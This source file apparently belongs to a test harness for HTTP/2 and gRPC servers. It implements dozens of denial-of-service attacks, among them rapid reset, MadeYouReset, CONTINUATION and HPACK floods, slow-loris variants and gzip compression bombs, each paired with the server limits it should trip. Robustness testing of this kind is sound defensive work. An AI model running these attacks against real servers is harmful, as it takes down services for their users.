/*
 * The attacks of attacks.h, after what is known of HTTP/2's weaknesses: CVE-2019-9511 to
 * 9518 (floods), CVE-2023-44487 (rapid reset), CVE-2024-27316 (CONTINUATION),
 * CVE-2025-8671 (MadeYouReset), and what gRPC adds: messages, compression.
 */
#include "attacks.h"

#include "target.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zlib.h>

static const uint8_t zeros[16384];

static uint32_t next(foe *f) {
  uint32_t id = f->next_id;
  f->next_id += 2;
  return id;
}

/* A frame as a row of the table names it. */
#define FRAME(type, flags, payload) (&(const frame){type, flags, payload, sizeof(payload) - 1})
#define CANCEL                      FRAME(RST_STREAM, 0, "\0\0\0\x8")

static void reset(foe *f, uint32_t id) {
  put_frame(&f->out, RST_STREAM, 0, id, "\0\0\0\x8", 4);
}

static void request(foe *f, uint32_t id, const char *path) {
  put_request(&f->out, id, 0, path, NULL);
  put_message(&f->out, id, 5, END_STREAM);
}

/* ---- Resets ---- */

/* HEADERS, DATA and RST_STREAM at once. */
static bool reset_at_once(foe *f) {
  for (int i = 0; i < 50; i++) {
    uint32_t id = next(f);
    request(f, id, ECHO_PATH);
    reset(f, id);
  }
  return true;
}

static void put_this(foe *f, const frame *it, uint32_t id) {
  put_frame(&f->out, it->type, it->flags, id, it->payload, it->len);
}

/* The begin of many calls, and once their handlers run a frame for each. */
static bool in_pairs(foe *f, void (*begin)(foe *f, uint32_t id), const frame *then) {
  enum { N = 90 };
  if (f->phase == 0)
    for (int i = 0; i < N; i++) begin(f, next(f));
  if (f->phase == 3)
    for (uint32_t id = f->next_id - 2 * N; id < f->next_id; id += 2) put_this(f, then, id);
  f->phase = (f->phase + 1) % 6; /* the others are pauses */
  return true;
}

static void begin_hold(foe *f, uint32_t id) {
  request(f, id, HOLD_PATH);
}

/* Every second one is refused before a handler has begun: nothing that makes up for the others. */
static void begin_half(foe *f, uint32_t id) {
  if (id / 2 % 2) begin_hold(f, id);
  else put_request(&f->out, id, END_STREAM, "/attack.T/None", NULL);
}

/* Each could be one whose time was over, if one does not look closely. */
static bool reset_before(foe *f, const char *timeout, double seconds) {
  enum { N = 90 };
  const char *const soon[] = {"grpc-timeout", timeout, NULL};
  /* The resets of the last but one went out with the last; unless it was the server that did
   * not read. */
  if (f->phase > 1 && f->full_at < f->told[0] &&
      f->sent_at - f->told[0] >= (seconds > 0.001 ? seconds / 2 : 0.0005))
    f->waited += N;
  f->told[0] = f->told[1];
  f->told[1] = now();
  if (f->phase++)
    for (uint32_t id = f->next_id - 2 * N; id < f->next_id; id += 2) reset(f, id);
  for (int i = 0; i < N; i++) {
    uint32_t id = next(f);
    put_request(&f->out, id, 0, HOLD_PATH, soon);
    put_message(&f->out, id, 5, END_STREAM);
  }
  return true;
}

#define BEFORE(timeout, seconds)                                                                   \
  static bool reset_before_##timeout(foe *f) {                                                     \
    return reset_before(f, #timeout, seconds);                                                     \
  }
BEFORE(20m, 0.02)
BEFORE(5m, 0.005)
BEFORE(1m, 0.001)
BEFORE(100u, 0.0001)

static void begin_20m(foe *f, uint32_t id) {
  static const char *const soon[] = {"grpc-timeout", "20m", NULL};
  put_request(&f->out, id, 0, HOLD_PATH, soon);
  put_message(&f->out, id, 5, END_STREAM);
}

/* Too late before it began: nothing of it is for a handler. */
static void begin_too_late(foe *f, uint32_t id) {
  static const char *const over[] = {"grpc-timeout", "1n", NULL};
  put_request(&f->out, id, 0, HOLD_PATH, over);
  put_message(&f->out, id, 5, END_STREAM);
}

static bool reset_too_late(foe *f) {
  return in_pairs(f, begin_too_late, CANCEL);
}

/* 14 KiB of headers in 4 octets, and the reset behind them. */
static bool reset_large_headers(foe *f) {
  static char value[3600];
  if (f->phase > 1) return false;
  if (!f->phase++) {
    bytes block = {0};
    memset(value, 'v', sizeof(value));
    put(&block, "\x83\x86\x40\1x\x7f\x91\x1b", 8); /* 127 + 3,473 */
    put(&block, value, sizeof(value));
    put(&block, "\x40\5:path\x13" ECHO_PATH, 8 + strlen(ECHO_PATH));
    put(&block, "\x40\xa:authority\1x", 14);
    put(&block,
        "\x40\xcgrpc-timeout\2"
        "1n",
        17);
    put_frame(&f->out, HEADERS, END_HEADERS, next(f), block.data, block.len);
    free(block.data);
    return true;
  }
  while (f->out.len < 62000) {
    uint32_t id = next(f);
    put_frame(&f->out, HEADERS, END_HEADERS, id, "\x83\x86\xc0\xbf\xbe\xc1\xc1\xc1\xc1", 9);
    reset(f, id);
  }
  return true;
}

/* ---- Resets that the server is made to send ---- */

static void begin_chat(foe *f, uint32_t id) {
  put_request(&f->out, id, 0, CHAT_PATH, NULL);
}

static void begin_with_length(foe *f, uint32_t id) {
  static const char *const length[] = {"content-length", "3", NULL};
  put_request(&f->out, id, 0, CHAT_PATH, length);
}

static bool made_bad_header(foe *f) {
  static const char *const upper[] = {"Upper", "x", NULL};
  for (int i = 0; i < 50; i++) put_request(&f->out, next(f), 0, CHAT_PATH, upper);
  return true;
}

/* ---- Header blocks ---- */

static bool continuation(foe *f, size_t piece) {
  bytes block = {0};
  if (!f->phase++) {
    put_frame(&f->out, HEADERS, 0, next(f), "\x83\x86", 2);
    return true;
  }
  while (block.len < piece) put_field(&block, "a", "b", 1);
  for (int i = 0; i < 100; i++)
    put_frame(&f->out, CONTINUATION, 0, f->next_id - 2, block.data, piece ? block.len : 0);
  free(block.data);
  return true;
}

static bool continuation_small(foe *f) {
  return continuation(f, 1);
}

static bool continuation_large(foe *f) {
  return continuation(f, 16000);
}

static bool continuation_empty(foe *f) {
  return continuation(f, 0);
}

/* One field into the table, and 147,000 times its index. */
static bool hpack_bomb(foe *f) {
  uint8_t block[16384];
  if (f->phase++) return false;
  bytes first = {0};
  put(&first, "\x40\1a\1b", 5);
  put_frame(&f->out, HEADERS, 0, next(f), first.data, first.len);
  free(first.data);
  memset(block, 0xbe, sizeof(block));
  for (int i = 0; i < 9; i++)
    put_frame(&f->out, CONTINUATION, i == 8 ? END_HEADERS : 0, 1, block,
              i == 8 ? 147000 - 8 * sizeof(block) : sizeof(block));
  return true;
}

/* A table's worth of text for an octet, as often as is allowed for a call. */
static bool hpack_large_entry(foe *f) {
  static char value[3900];
  if (f->phase++ > 30) return false;
  memset(value, 'v', sizeof(value));
  for (int i = 0; i < 20; i++) {
    bytes block = {0};
    put(&block, "\x83\x86", 2);
    put_field(&block, ":path", ECHO_PATH, strlen(ECHO_PATH));
    put_field(&block, ":authority", "localhost", 9);
    put(&block, "\x40\1a\x7f\xbd\x1d", 6); /* 127 + 3,773 */
    put(&block, value, sizeof(value));
    put(&block, "\xbe\xbe\xbe", 3);
    put_frame(&f->out, HEADERS, END_HEADERS | END_STREAM, next(f), block.data, block.len);
    free(block.data);
  }
  return true;
}

static bool long_headers(foe *f, size_t fields, int calls) {
  static char value[1000];
  memset(value, 'v', sizeof(value));
  if (f->phase++ >= calls) return false;
  bytes block = {0};
  put(&block, "\x83\x86", 2);
  put_field(&block, ":path", ECHO_PATH, strlen(ECHO_PATH));
  put_field(&block, ":authority", "localhost", 9);
  put_field(&block, "content-type", "application/grpc", 16);
  for (size_t i = 0; i < fields; i++) put_field(&block, "x", value, sizeof(value));
  uint32_t id = next(f);
  for (size_t at = 0, n; at < block.len; at += n) {
    n = block.len - at < 16384 ? block.len - at : 16384;
    put_frame(&f->out, at ? CONTINUATION : HEADERS,
              (at ? 0u : END_STREAM) | (at + n == block.len ? END_HEADERS : 0u), id,
              block.data + at, n);
  }
  free(block.data);
  return true;
}

static bool headers_soft(foe *f) {
  return long_headers(f, 20, 50);
}

static bool headers_hard(foe *f) {
  return long_headers(f, 70, 1);
}

/* ---- Frames that say nothing ---- */

static bool flood(foe *f, const frame *it, uint32_t id) {
  for (int i = 0; i < 500; i++) put_this(f, it, id);
  return true;
}

static bool settings_long(foe *f) {
  static uint8_t many[33 * 6];
  put_frame(&f->out, SETTINGS, 0, 0, many, sizeof(many));
  return true;
}

static bool updates(foe *f) {
  if (!f->phase++) begin_chat(f, next(f));
  return f->said++ > 4000 ? false : flood(f, FRAME(WINDOW_UPDATE, 0, "\0\0\0\1"), f->said % 2);
}

static bool resets_of_closed(foe *f) {
  if (!f->phase++) {
    begin_chat(f, next(f));
    reset(f, 1);
  }
  return flood(f, CANCEL, 1);
}

static bool padded_data(foe *f) {
  static char padding[256] = {(char)255};
  if (!f->phase++) begin_chat(f, next(f));
  for (int i = 0; i < 50; i++) put_frame(&f->out, DATA, PADDED, 1, padding, sizeof(padding));
  return true;
}

/* These are messages, if of no octet: an honest client may. */
static bool one_byte_data(foe *f) {
  if (!f->phase++) begin_chat(f, next(f));
  if (f->wrote > 400000) return false;
  return flood(f, FRAME(DATA, 0, "\0"), 1);
}

/* ---- Slow ones ---- */

/* An octet now and then: `every` calls of this. */
static bool drip(foe *f, const void *octets, size_t len) {
  if (f->said < len) put(&f->out, (const uint8_t *)octets + f->said++, 1);
  return true;
}

static bool slow_tls(foe *f) {
  return drip(f, "\x16\3\1\2\0\1\0\1\xfc\3\3", 11);
}

static bool slow_preface(foe *f) {
  return drip(f, "PRI * HTTP/2.0\r\n\r\nSM\r\n", 22);
}

static bool slow_settings(foe *f) {
  return drip(f, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x12\4\0\0\0\0\0\0\3\0", 36);
}

static bool no_ack(foe *f) {
  if (!f->phase++) put(&f->out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", 33);
  return true;
}

static bool slow_headers(foe *f) {
  if (!f->phase++) put_frame(&f->out, HEADERS, 0, 1, "\x83\x86", 2);
  put_frame(&f->out, CONTINUATION, 0, 1, "\x84", 1);
  return f->phase < 100;
}

static bool slow_frame(foe *f) {
  if (!f->phase++) put_head(&f->out, 16000, HEADERS, END_HEADERS, 1);
  put(&f->out, "\x84", 1);
  return f->phase < 100;
}

/* A hundred messages of 4 MiB that come an octet at a time. */
static bool slow_messages(foe *f) {
  if (!f->phase++)
    for (int i = 0; i < 100; i++) {
      uint32_t id = next(f);
      put_request(&f->out, id, 0, ECHO_PATH, NULL);
      put_frame(&f->out, DATA, 0, id, "\0\0\x3f\xff\xfb", 5);
    }
  for (uint32_t id = 1; id < 200; id += 2) put_frame(&f->out, DATA, 0, id, "x", 1);
  return f->phase < 300;
}

/* ---- Memory ---- */

static bool large_replies(foe *f) {
  if (f->phase++ > 1) return false;
  for (int i = 0; i < 50; i++) request(f, next(f), LARGE_PATH);
  return true;
}

/* All but an octet of each. */
static bool large_replies_but_one(foe *f) {
  if (f->phase++) return false;
  put_head(&f->out, 4, WINDOW_UPDATE, 0, 0);
  put_u32(&f->out, 0x7fff0000 - 65535);
  for (int i = 0; i < 50; i++) request(f, next(f), LARGE_PATH);
  return true;
}

/* Replies with all the window in the world, that are not read. */
static bool unread_replies(foe *f) {
  if (!f->phase++) {
    put_head(&f->out, 4, WINDOW_UPDATE, 0, 0);
    put_u32(&f->out, 0x7fff0000 - 65535);
    for (int i = 0; i < 20; i++) request(f, next(f), LARGE_PATH);
  }
  return true;
}

/* As many messages as there are streams, all but an octet of each, as far as windows let. */
static bool partial_messages(foe *f) {
  enum { WINDOW = 262144, CONNECTION = 1 << 20 };
  if (!f->phase++)
    for (int i = 0; i < 100; i++) {
      put_request(&f->out, next(f), 0, ECHO_PATH, NULL);
      put_frame(&f->out, DATA, 0, f->next_id - 2, "\0\0\x3f\xff\xfb", 5);
    }
  /* In turns, an eighth of what all windows together have at a time. */
  if (f->phase > 1 + 100 * 15) return false;
  uint32_t id = 1 + 2 * ((uint32_t)(f->phase - 2) % 100);
  put_frame(&f->out, DATA, 0, id, zeros, sizeof(zeros));
  return true;
}

static bool refused_streams(foe *f) {
  for (int i = 0; i < 100; i++) begin_chat(f, next(f));
  return true;
}

static bool lying_prefix(foe *f) {
  if (f->phase++) return false;
  for (int i = 0; i < 100; i++) {
    uint32_t id = next(f);
    put_request(&f->out, id, 0, ECHO_PATH, NULL);
    put_frame(&f->out, DATA, 0, id, "\0\0\x40\0\0x", 6);
  }
  return true;
}

/* The length says less than there is, or more. */
static bool wrong_length(foe *f) {
  if (f->phase++ > 20) return false;
  for (int i = 0; i < 10; i++) {
    uint32_t id = next(f);
    put_request(&f->out, id, 0, ECHO_PATH, NULL);
    put_frame(&f->out, DATA, END_STREAM, id, i % 2 ? "\0\0\0\0\1xyz" : "\0\0\0\1\0xyz", 8);
  }
  return true;
}

static bool oversized(foe *f) {
  if (f->phase++ > 3) return false;
  for (int i = 0; i < 20; i++) {
    uint32_t id = next(f);
    put_request(&f->out, id, 0, ECHO_PATH, NULL);
    put_frame(&f->out, DATA, 0, id, "\0\xff\xff\xff\xffx", 6);
  }
  return true;
}

/* 4 MiB less an octet of zeros in 4 KiB, a hundred times. */
static bool compression_bomb(foe *f) {
  static const char *const gzip[] = {"grpc-encoding", "gzip", NULL};
  static uint8_t packed[16384];
  static size_t len;
  if (f->phase++) return false;
  if (!len) {
    z_stream z = {0};
    uint8_t *plain = calloc(1, LARGE);
    deflateInit2(&z, 9, Z_DEFLATED, 31, 9, Z_DEFAULT_STRATEGY);
    z.next_in = plain;
    z.avail_in = LARGE - 1;
    z.next_out = packed + 5;
    z.avail_out = sizeof(packed) - 5;
    deflate(&z, Z_FINISH);
    len = sizeof(packed) - z.avail_out;
    deflateEnd(&z);
    free(plain);
    packed[0] = 1;
    packed[3] = (uint8_t)((len - 5) >> 8);
    packed[4] = (uint8_t)(len - 5);
  }
  for (int i = 0; i < 100; i++) {
    uint32_t id = next(f);
    put_request(&f->out, id, 0, HOLD_PATH, gzip);
    put_frame(&f->out, DATA, END_STREAM, id, packed, len);
  }
  return true;
}

/* ---- Requests that are none ---- */

static bool odd_paths(foe *f) {
  static const char *const paths[] = {
      "",
      "*",
      "/",
      "//",
      "///",
      "attack.Target/Echo",
      "/attack.Target/Echo/",
      "//attack.Target/Echo",
      "/attack.Target//Echo",
      "/attack.Target/echo",
      "/attack.Target/Echo?x=1",
      "/attack.Target/Echo#x",
      "/attack.Target/%45cho",
      "/attack.Target/../attack.Target/Echo",
      "/./attack.Target/Echo",
      "http://localhost/attack.Target/Echo",
      "/attack.Target/Echo ",
      " /attack.Target/Echo",
      "/attack.Target/Echo\t",
      "/Target/Echo",
      "/attack.Target",
      "/attack.Target/",
      "\\attack.Target\\Echo",
      "/attack.Target/Ech",
      "/attack.Target/Echoo",
      "/attack.Target/Echo;x",
  };
  size_t n = sizeof(paths) / sizeof(paths[0]);
  if ((size_t)f->phase >= 4 * n) return false;
  request(f, next(f), paths[(size_t)f->phase++ % n]);
  return true;
}

static bool odd_headers(foe *f) {
  static const char *const odd[][3] = {
      {"content-type", "application/json", NULL},
      {"te", "gzip", NULL},
      {"connection", "close", NULL},
      {"transfer-encoding", "chunked", NULL},
      {"te", "trailers, deflate", NULL},
      {"host", "a b", NULL},
      {"grpc-timeout", "99999999999S", NULL},
      {"grpc-timeout", "-1S", NULL},
      {"grpc-encoding", "brotli", NULL},
      {"content-type", "text/html", NULL},
      {":path", ECHO_PATH, NULL},
      {":authority", "x", NULL},
      {"a\nb", "x", NULL},
      {"x", "a\r\nb", NULL},
      {"", "x", NULL},
      {"grpc-trace-bin", "!!", NULL},
  };
  static const char *const types[] = {"",           "application/grpcx", "application/",
                                      "text/plain", "application/grp",   "application/json",
                                      "a"};
  if (f->phase < 16) {
    uint32_t id = next(f);
    put_request(&f->out, id, 0, "/attack.Target/Nothing", odd[f->phase]);
    put_message(&f->out, id, 5, END_STREAM);
  } else if (f->phase < 23) {
    bytes block = {0};
    const char *type = types[f->phase - 16];
    put(&block, "\x83\x86", 2);
    put_field(&block, ":path", ECHO_PATH, strlen(ECHO_PATH));
    put_field(&block, ":authority", "localhost", 9);
    put_field(&block, "content-type", type, strlen(type));
    put_frame(&f->out, HEADERS, END_HEADERS | END_STREAM, next(f), block.data, block.len);
    free(block.data);
  }
  return ++f->phase < 24;
}

bool attack_says(const attack *a, foe *f) {
  if (a->more) return a->more(f);
  if (a->then) return in_pairs(f, a->first, a->then);
  if (a->first && !f->phase++) a->first(f, next(f));
  return flood(f, a->flood, a->id);
}

/* In order: each is an attack of its own. */
#define NOTHING CAW_LIMIT_NONE
#define RESETS  CAW_LIMIT_RESETS
const attack attacks[] = {
    {.name = "rapid reset",
     .more = reset_at_once,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "rapid reset, unread",
     .more = reset_at_once,
     .deaf = true,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset of running handlers",
     .first = begin_hold,
     .then = CANCEL,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset of running handlers, others refused",
     .first = begin_half,
     .then = CANCEL,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset of running handlers, unread",
     .first = begin_hold,
     .then = CANCEL,
     .deaf = true,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset of running handlers, 4 peers",
     .first = begin_hold,
     .then = CANCEL,
     .foes = 4,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset before a deadline of 20 ms",
     .timed = true,
     .more = reset_before_20m,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset of running handlers before 20 ms",
     .timed = true,
     .first = begin_20m,
     .then = CANCEL,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset before a deadline of 5 ms",
     .timed = true,
     .more = reset_before_5m,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "reset before a deadline of 1 ms",
     .timed = true,
     .more = reset_before_1m,
     .closes = true,
     .limit = RESETS,
     .handlers = 2000},
    /* Where time runs out before a handler begins, that is all. */
    {.name = "reset before a deadline of 100 us",
     .timed = true,
     .more = reset_before_100u,
     .handlers = 2000},
    {.name = "reset after a deadline of 1 ns", .more = reset_too_late},
    {.name = "reset of large headers, 8 peers", .more = reset_large_headers, .foes = 8},
    {.name = "MadeYouReset: window overflow",
     .first = begin_chat,
     .then = FRAME(WINDOW_UPDATE, 0, "\x7f\xff\xff\xff"),
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: window overflow, unread",
     .first = begin_chat,
     .then = FRAME(WINDOW_UPDATE, 0, "\x7f\xff\xff\xff"),
     .deaf = true,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: update of nothing",
     .first = begin_chat,
     .then = FRAME(WINDOW_UPDATE, 0, "\0\0\0\0"),
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: short PRIORITY",
     .first = begin_chat,
     .then = FRAME(PRIORITY, 0, "\0\0\0\0"),
     .closes = true,
     .limit = RESETS,
     .or_code = 6, /* FRAME_SIZE_ERROR: a server that is behind has refused such a stream */
     .handlers = 400},
    {.name = "MadeYouReset: bad header", .more = made_bad_header, .closes = true, .limit = RESETS},
    {.name = "MadeYouReset: content-length",
     .first = begin_with_length,
     .then = FRAME(DATA, 0, "\0\0\0\0\5\0\0\0\0\0"),
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: DATA after END_STREAM",
     .first = begin_hold,
     .then = FRAME(DATA, 0, "\0\0\0\0\0"),
     .closes = true,
     .handlers = 400},
    {.name = "MadeYouReset: bad trailer",
     .first = begin_chat,
     .then = FRAME(HEADERS, END_HEADERS | END_STREAM, "\0\5:path\1/"),
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: trailers without end",
     .first = begin_chat,
     .then = FRAME(HEADERS, END_HEADERS, "\0\1x\1y"),
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: oversized message",
     .first = begin_chat,
     .then = FRAME(DATA, 0, "\0\x7f\0\0\0x"),
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: oversized message, unread",
     .first = begin_chat,
     .then = FRAME(DATA, 0, "\0\x7f\0\0\0x"),
     .deaf = true,
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "MadeYouReset: bad message flag",
     .first = begin_chat,
     .then = FRAME(DATA, 0, "\2\0\0\0\1x"),
     .closes = true,
     .limit = RESETS,
     .handlers = 400},
    {.name = "CONTINUATION flood, small",
     .more = continuation_small,
     .closes = true,
     .limit = CAW_LIMIT_HEADER_BLOCK},
    {.name = "CONTINUATION flood, large",
     .more = continuation_large,
     .closes = true,
     .limit = CAW_LIMIT_HEADER_BLOCK},
    {.name = "CONTINUATION flood, empty",
     .more = continuation_empty,
     .closes = true,
     .limit = CAW_LIMIT_HEADER_BLOCK},
    {.name = "CONTINUATION flood, unread",
     .more = continuation_small,
     .deaf = true,
     .closes = true,
     .limit = CAW_LIMIT_HEADER_BLOCK},
    {.name = "PING flood", .flood = FRAME(PING, 0, "12345678"), .closes = true},
    {.name = "PING flood, unread",
     .flood = FRAME(PING, 0, "12345678"),
     .deaf = true,
     .closes = true},
    {.name = "SETTINGS flood", .flood = FRAME(SETTINGS, 0, "\0\3\0\0\0\x64"), .closes = true},
    {.name = "SETTINGS flood, unread",
     .flood = FRAME(SETTINGS, 0, "\0\3\0\0\0\x64"),
     .deaf = true,
     .closes = true},
    {.name = "SETTINGS of too many entries",
     .more = settings_long,
     .closes = true,
     .limit = CAW_LIMIT_NOISE},
    {.name = "PRIORITY flood",
     .flood = FRAME(PRIORITY, 0, "\0\0\0\3\x10"),
     .id = 1,
     .closes = true,
     .limit = CAW_LIMIT_NOISE},
    {.name = "PRIORITY flood, unread",
     .flood = FRAME(PRIORITY, 0, "\0\0\0\3\x10"),
     .id = 1,
     .deaf = true,
     .closes = true,
     .limit = CAW_LIMIT_NOISE},
    {.name = "WINDOW_UPDATE flood",
     .more = updates,
     .closes = true,
     .limit = CAW_LIMIT_NOISE,
     .handlers = 1},
    {.name = "WINDOW_UPDATE flood, unread",
     .more = updates,
     .deaf = true,
     .closes = true,
     .limit = CAW_LIMIT_NOISE,
     .handlers = 1},
    {.name = "empty DATA",
     .first = begin_chat,
     .flood = FRAME(DATA, 0, ""),
     .id = 1,
     .closes = true,
     .limit = CAW_LIMIT_NOISE,
     .handlers = 1},
    {.name = "empty DATA, unread",
     .first = begin_chat,
     .flood = FRAME(DATA, 0, ""),
     .id = 1,
     .deaf = true,
     .closes = true,
     .limit = CAW_LIMIT_NOISE,
     .handlers = 1},
    {.name = "padded empty DATA",
     .more = padded_data,
     .closes = true,
     .limit = CAW_LIMIT_NOISE,
     .handlers = 1},
    {.name = "one-octet DATA", .more = one_byte_data, .handlers = 1},
    {.name = "unknown frames",
     .flood = FRAME(0x42, 0xff, "0123456789"),
     .id = 5,
     .closes = true,
     .limit = CAW_LIMIT_NOISE},
    {.name = "unknown frames, unread",
     .flood = FRAME(0x42, 0xff, "0123456789"),
     .id = 5,
     .deaf = true,
     .closes = true,
     .limit = CAW_LIMIT_NOISE},
    {.name = "RST_STREAM of a closed stream",
     .more = resets_of_closed,
     .closes = true,
     .limit = CAW_LIMIT_NOISE,
     .handlers = 1},
    {.name = "HPACK bomb, 50 peers",
     .more = hpack_bomb,
     .foes = 50,
     .closes = true,
     .limit = CAW_LIMIT_HEADER_BLOCK,
     .cpu_ms = 1},
    /* The headers of a hundred calls, 16 KiB each. */
    {.name = "HPACK, large entries", .more = hpack_large_entry, .memory = 3},
    {.name = "header list too long for a call",
     .more = headers_soft,
     .limit = CAW_LIMIT_HEADERS,
     .ends = 50},
    {.name = "header list too long",
     .more = headers_hard,
     .closes = true,
     .limit = CAW_LIMIT_HEADER_BLOCK},
    {.name = "slow loris: TLS",
     .more = slow_tls,
     .tls = true,
     .window = -1,
     .quick = true,
     .foes = 20,
     .closes = true,
     .after = QUICK,
     .limit = CAW_LIMIT_HANDSHAKE_TIME},
    {.name = "slow loris: preface",
     .more = slow_preface,
     .window = -1,
     .quick = true,
     .foes = 20,
     .closes = true,
     .after = QUICK,
     .limit = CAW_LIMIT_HANDSHAKE_TIME},
    {.name = "slow loris: SETTINGS",
     .more = slow_settings,
     .window = -1,
     .quick = true,
     .foes = 20,
     .closes = true,
     .after = QUICK,
     .limit = CAW_LIMIT_HANDSHAKE_TIME},
    {.name = "slow loris: acknowledgement",
     .more = no_ack,
     .window = -1,
     .quick = true,
     .foes = 20,
     .closes = true,
     .after = QUICK,
     .limit = CAW_LIMIT_SETTINGS_TIME},
    {.name = "slow loris: headers",
     .more = slow_headers,
     .quick = true,
     .foes = 20,
     .closes = true,
     .after = QUICK,
     .limit = CAW_LIMIT_HEADER_TIME},
    {.name = "slow loris: one HEADERS frame",
     .more = slow_frame,
     .quick = true,
     .foes = 20,
     .closes = true,
     .after = QUICK,
     .limit = CAW_LIMIT_HEADER_TIME},
    {.name = "slow loris: messages", .more = slow_messages, .quick = true, .foes = 5},
    {.name = "large replies, no window",
     .more = large_replies,
     .shut = true,
     .seconds = 2.5,
     .limit = CAW_LIMIT_CONNECTION_BYTES,
     .handlers = 16,
     .memory = 65,
     .ends = 84},
    {.name = "large replies, no window, unread",
     .more = large_replies,
     .shut = true,
     .deaf = true,
     .seconds = 2.5,
     .limit = CAW_LIMIT_CONNECTION_BYTES,
     .handlers = 16,
     .memory = 65},
    {.name = "large replies but for an octet",
     .more = large_replies_but_one,
     .window = (4 << 20) + 4,
     .seconds = 2.5,
     .limit = CAW_LIMIT_CONNECTION_BYTES,
     .handlers = 16,
     .memory = 65},
    {.name = "large replies, unread",
     .more = unread_replies,
     .window = 0x7fffffff,
     .deaf = true,
     .quick = true,
     .seconds = 2.5,
     .closes = true,
     .after = QUICK,
     .limit = CAW_LIMIT_WRITE_TIME,
     .handlers = 20,
     .memory = 65},
    {.name = "messages that are not whole", .more = partial_messages, .memory = 65},
    {.name = "refused streams, unread",
     .more = refused_streams,
     .deaf = true,
     .closes = true,
     .limit = CAW_LIMIT_NOISE,
     .handlers = 100},
    {.name = "length prefixes that promise 4 MiB", .more = lying_prefix},
    {.name = "length prefixes that lie", .more = wrong_length, .ends = 200},
    {.name = "oversized messages", .more = oversized, .ends = 60},
    {.name = "compression bombs",
     .more = compression_bomb,
     .handlers = 16,
     .memory = 65,
     .seconds = 10,
     .ends = 80,
     .limit = CAW_LIMIT_CONNECTION_BYTES},
    {.name = ":path that is none", .more = odd_paths, .ends = 80},
    {.name = "te, content-type and others", .more = odd_headers, .ends = 20},
};
const size_t n_attacks = sizeof(attacks) / sizeof(attacks[0]);
